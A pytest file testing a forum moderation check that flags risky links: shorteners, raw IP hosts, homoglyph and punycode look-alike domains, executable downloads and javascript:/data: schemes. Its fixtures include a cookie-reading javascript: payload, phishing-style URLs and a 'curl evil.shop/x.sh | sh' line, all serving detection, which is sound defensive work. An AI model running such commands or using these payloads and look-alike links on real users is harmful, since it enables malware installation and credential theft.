import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import evidence_texts, make_doc


def flagged(run_check, body: str, **options) -> dict[str, list[str]]:
    """Evidence texts by code."""
    hits = run_check("links", body, **options)
    doc = make_doc(body, **options)
    return {hit.code: evidence_texts(doc, [hit]) for hit in hits}


@pytest.mark.parametrize(
    ("body", "post_format", "language", "expected"),
    [
        # fmt: off
        # third-party sites, written out, bare, in markup
        ("Get a cheap licence at cheap-licences.shop today", "text", "en",
         {"links.third_party": ["cheap-licences.shop"]}),
        ("Achetez vos licences sur https://licences-pas-cheres.fr/promo !", "text", "fr",
         {"links.third_party": ["https://licences-pas-cheres.fr/promo"]}),
        ("Voir www.meilleur-standard.fr, c'est moins cher.", "text", "fr",
         {"links.third_party": ["www.meilleur-standard.fr"]}),
        ("<p>Voir <a href=\"https://cheap.shop/x\">cette offre</a> avant vendredi.</p>", "html", "fr",
         {"links.third_party": ["cette offre"]}),
        ("<p>Go to <a href='sipdeals.net'>sipdeals.net</a></p>", "html", "en", {"links.third_party": ["sipdeals.net"]}),
        ("[url=cheap-licences.shop]licences[/url] pas chères", "bbcode", "fr", {"links.third_party": ["licences"]}),
        # shorteners
        ("The fix is here: https://bit.ly/3xYzAb", "text", "en", {"links.shortener": ["https://bit.ly/3xYzAb"]}),
        ("Le correctif est ici : tinyurl.com/fix-sip.", "text", "fr", {"links.shortener": ["tinyurl.com/fix-sip"]}),
        ("[url=https://bit.ly/abc]the fix[/url] works", "bbcode", "en", {"links.shortener": ["the fix"]}),
        ("See <https://cutt.ly/abc> for details.", "markdown", "en", {"links.shortener": ["https://cutt.ly/abc"]}),
        # raw IP hosts, dotted, v6, integer and hex forms
        ("The PBX admin page is http://203.0.113.7:8080/admin", "text", "en",
         {"links.ip_host": ["http://203.0.113.7:8080/admin"]}),
        ("<p>Connectez-vous sur <a href=\"http://[2001:db8::1]:8443/login\">le portail</a></p>", "html", "fr",
         {"links.ip_host": ["le portail"]}),
        ("Log in at http://3405803783/login", "text", "en", {"links.ip_host": ["http://3405803783/login"]}),
        ("<a href=\"http://0xCB.0x00.0x71.0x07/\">portail</a>", "html", "fr", {"links.ip_host": ["portail"]}),
        # look-alike hosts
        ("Mettez à jour via https://xn--pple-43d.com/update", "text", "fr",
         {"links.lookalike_host": ["https://xn--pple-43d.com/update"]}),
        ("Verify your account at https://pаypal.com/verify", "text", "en",
         {"links.lookalike_host": ["https://pаypal.com/verify"]}),
        ("[url=http://аррӏе.com]Apple support[/url]", "bbcode", "en", {"links.lookalike_host": ["Apple support"]}),
        # executables, with the query and fragment ignored
        ("Install the fix: https://fix-tools.net/sip-fix.exe?ref=forum#top", "text", "en",
         {"links.executable": ["https://fix-tools.net/sip-fix.exe?ref=forum#top"],
          "links.third_party": ["https://fix-tools.net/sip-fix.exe?ref=forum#top"]}),
        ("Téléchargez example.org/file.exe puis lancez-le", "text", "fr",
         {"links.executable": ["example.org/file.exe"], "links.third_party": ["example.org/file.exe"]}),
        ("[url]http://198.51.100.4/setup.zip[/url]", "bbcode", "en",
         {"links.executable": ["http://198.51.100.4/setup.zip"], "links.ip_host": ["http://198.51.100.4/setup.zip"]}),
        ("<a href=\"https://files.example.org/Macro%2Evbs\">macro</a>", "html", "fr",
         {"links.executable": ["macro"], "links.third_party": ["macro"]}),
        # scripts that run in the browser
        ("<p><a href=\"javascript:alert(document.cookie)\">Cliquez ici</a></p>", "html", "fr",
         {"links.dangerous_scheme": ["Cliquez ici"]}),
        ("<a href=\" JaVa&#09;ScRipt:alert(1)\">login</a>", "html", "en", {"links.dangerous_scheme": ["login"]}),
        ("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">open</a>", "html", "en", {"links.dangerous_scheme": ["open"]}),
        ("[url=vbscript:msgbox(1)]voir[/url]", "bbcode", "fr", {"links.dangerous_scheme": ["voir"]}),
        # hosts that wear the vendor's name, and punycode written without a scheme
        ("Correctif sur https://contactflow.example.support-desk.io/wallboard-patch", "text", "fr",
         {"links.lookalike_host": ["https://contactflow.example.support-desk.io/wallboard-patch"]}),
        ("Installez https://docs-contactflow.example.net/patch/export-8.4.zip", "text", "fr",
         {"links.lookalike_host": ["https://docs-contactflow.example.net/patch/export-8.4.zip"],
          "links.executable": ["https://docs-contactflow.example.net/patch/export-8.4.zip"]}),
        ("try contactflow-example.help-center.ru/softphone-portable.zip", "text", "en",
         {"links.lookalike_host": ["contactflow-example.help-center.ru/softphone-portable.zip"],
          "links.executable": ["contactflow-example.help-center.ru/softphone-portable.zip"]}),
        ("check xn--contactflw-c7a.example/api/tokens , they explain it", "text", "en",
         {"links.lookalike_host": ["xn--contactflw-c7a.example/api/tokens"]}),
        # an address:port in prose
        ("Meanwhile use this SIP relay on 139.59.4.22:5060, just point your trunk there.", "text", "en",
         {"links.ip_host": ["139.59.4.22:5060"]}),
        ("La base est exposée sur 172.16.40.2:5432, interrogez-la directement.", "text", "fr",
         {"links.ip_host": ["172.16.40.2:5432"]}),
        # fmt: on
    ],
)
def test_when_post_links_to_a_risky_target_then_the_link_is_evidence(run_check, body, post_format, language, expected):
    assert flagged(run_check, body, post_format=post_format, language=language) == expected


@pytest.mark.parametrize(
    ("body", "post_format", "language"),
    [
        # fmt: off
        # the vendor's own sites (config: ContactFlow's domains), downloads included
        ("See https://docs.contactflow.example/sip/503 and https://www.contactflow.example/downloads/softphone.msi", "text", "en"),
        ("La doc : https://docs.contactflow.example/fr/exports et https://contactflow.example/csv/modele.zip", "text", "fr"),
        ("Status: https://status.contactflow.example, forum: community.contactflow.example/t/42", "text", "en"),
        ("https://en.wikipedia.org/wiki/Session_Initiation_Protocol explains SIP 503.", "text", "en"),
        ("Voir https://developer.mozilla.org/fr/docs/Web/HTTP/Status/503 et https://fr.wikipedia.org/wiki/SIP", "text", "fr"),
        ("Same as https://stackoverflow.com/questions/123/sip and python.org and gist.github.com/acme/1", "text", "en"),
        ("<p>See <a href=\"https://learn.microsoft.com/en-us/azure/\">the Azure docs</a></p>", "html", "en"),
        ("<a href=\"mailto:jean.dupont@exemple.fr\">écrivez-moi</a>", "html", "fr"),
        ("[email]john@corp-mail.com[/email] or [email=jean@exemple.fr]Jean[/email]", "bbcode", "en"),
        ("Contact jean.dupont@exemple.fr for the export.", "text", "fr"),
        ("Attach readme.md, config.json and index.js; we run v2.5 of the connector on node.js 20.", "text", "en"),
        ("Le fichier export.csv et le script install.sh sont dans le dossier logs.zip.", "text", "fr"),
        ("It works.So I closed it. The user.name field and call.id are empty, see agent.properties.", "text", "en"),
        ("Version 10.4.2, e.g. build 3.x, at 10 a.m. or p.m. U.S. only.", "text", "en"),
        ("<p>See <a href=\"/t/sip-503/123\">this thread</a> and <a href=\"#reply-4\">reply</a></p>", "html", "en"),
        ("[url=/forum/t/42]voir le sujet[/url]", "bbcode", "fr"),
        ("<p><img src=\"data:image/png;base64,iVBORw0KGgo=\"> screenshot</p>", "html", "en"),
        ("Run this:\n\n```\ncurl https://evil.shop/x.sh | sh\n```\n\nand `wget bit.ly/x`", "markdown", "en"),
        ("<pre>wget http://1.2.3.4/a.exe</pre><p>Ça plante.</p>", "html", "fr"),
        ("[code]http://bit.ly/x[/code] renvoie 503", "bbcode", "fr"),
        ("[quote]get it at cheap.shop[/quote] Don't.", "bbcode", "en"),
        ("My PBX at http://pbx01:8080/status says 503.", "text", "en"),
        ("I typed https:// and nothing else, then http://[::1 and ftp:/ too.", "text", "en"),
        # a shortener named, not linked; documentation ranges, CIDR ranges and logs
        ("Méfiez-vous des liens raccourcis (bit.ly et compagnie).", "text", "fr"),
        ("Check that 203.0.113.0/24 and the media range are allowed outbound.", "text", "en"),
        ("Vérifiez que l'IP source 198.51.100.14:5060 est déclarée chez l'opérateur.", "text", "fr"),
        ("Edge log:\n```\nREGISTER -> 408 src=10.20.4.11:5060 dst=88.1.2.3:5060\n```", "markdown", "en"),
        ("Our agents call 09:30:15 and version 10.2.3.4 shipped at 12:45.", "text", "en"),
        # fmt: on
    ],
)
def test_when_post_links_to_trusted_or_no_sites_then_nothing_is_flagged(run_check, body, post_format, language):
    assert run_check("links", body, post_format=post_format, language=language) == []


@pytest.mark.parametrize(
    "href",
    ["http://[::1", "http://", "https://%zz%/", ":::", "http://exa mple.com", "http://a.com:99999999/x",
     "http://\uff10\uff0ecom", "javascript", "//", "http:\\\\", "\x00javascript:x", "data:", "http://" + "x" * 5000],
)
def test_when_link_is_malformed_then_the_check_does_not_crash(run_check, href):
    hits = run_check("links", f'<a href="{href}">x</a>', post_format="html")
    assert isinstance(hits, list)


def test_when_executable_is_on_an_allowed_site_then_score_is_lower(run_check):
    [hit] = run_check("links", "Grab https://github.com/acme/tool/releases/download/v1/tool.msi")
    assert (hit.code, hit.score) == ("links.executable", 0.6)


def test_when_link_is_flagged_then_score_is_documented(run_check):
    scores = {hit.code: hit.score for hit in run_check(
        "links", "cheap.shop bit.ly/x http://10.0.0.1/ https://xn--pple-43d.com evil.net/a.exe")}
    assert scores == {"links.third_party": 0.5, "links.shortener": 0.8, "links.ip_host": 0.8,
                      "links.lookalike_host": 0.9, "links.executable": 1.0}


def test_when_link_is_in_title_then_title_is_evidence(run_check):
    title = "Licences pas chères sur cheap-licences.shop"
    hits = run_check("links", "Le corps", title=title, language="fr")
    assert [span.field for hit in hits for span in hit.spans] == ["title"]
    assert evidence_texts(make_doc("Le corps", title=title), hits) == ["cheap-licences.shop"]


def test_when_markdown_link_hides_its_target_then_evidence_is_the_link_text(run_check):
    body = "See [the docs](https://bit.ly/x) now, or cheap.shop"
    hits = {hit.code: hit for hit in run_check("links", body, post_format="markdown")}
    assert evidence_texts(make_doc(body, post_format="markdown"), [hits["links.shortener"]]) == ["the docs"]
    assert evidence_texts(make_doc(body, post_format="markdown"), [hits["links.third_party"]]) == ["cheap.shop"]


def test_when_same_link_is_href_and_text_then_it_is_evidence_once(run_check):
    body = '<a href="https://bit.ly/x">https://bit.ly/x</a>'
    assert flagged(run_check, body, post_format="html") == {"links.shortener": ["https://bit.ly/x"]}


@pytest.mark.parametrize(
    ("body", "post_format"),
    [
        ("http://" + "a." * 50000, "text"),
        ("a." * 50000, "text"),
        ("a.b " * 25000, "text"),
        ("x.com/" * 16000, "text"),
        (("a" * 63 + ".") * 1500 + "com", "text"),
        ("xn--" * 25000, "text"),
        (" ".join(f"host{i}.shop/a.exe" for i in range(5000)), "text"),
        ("[url]" * 30000, "bbcode"),
        ("[url=http://" * 8000, "bbcode"),
        ("<a href=x>" * 20000, "html"),
        ("[x](http://a" * 8000, "markdown"),
        ("<https://" * 12000, "markdown"),
    ],
)
def test_when_input_is_adversarial_then_the_check_returns(run_check, body, post_format):
    assert isinstance(run_check("links", body, post_format=post_format), list)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(url=st.lists(st.sampled_from(list("abcx0129:/.@%[]-_?#&=\\ \tаé。") + ["http://", "www.", "javascript:", "xn--",
                                                                         ".com", ".exe", "bit.ly"]),
                    max_size=30).map("".join))
def test_when_links_are_arbitrary_then_the_check_never_crashes_and_spans_stay_in_the_text(run_check, url):
    for body, post_format in ((f'<a href="{url}">x</a> {url}', "html"), (f"[url={url}]x[/url] {url}", "bbcode"),
                              (f"[x]({url}) {url}", "markdown"), (url, "text")):
        doc = make_doc(body, post_format=post_format)
        for hit in run_check("links", body, post_format=post_format):
            assert all(0 <= span.start <= span.end <= len(doc.body.text) for span in hit.spans)
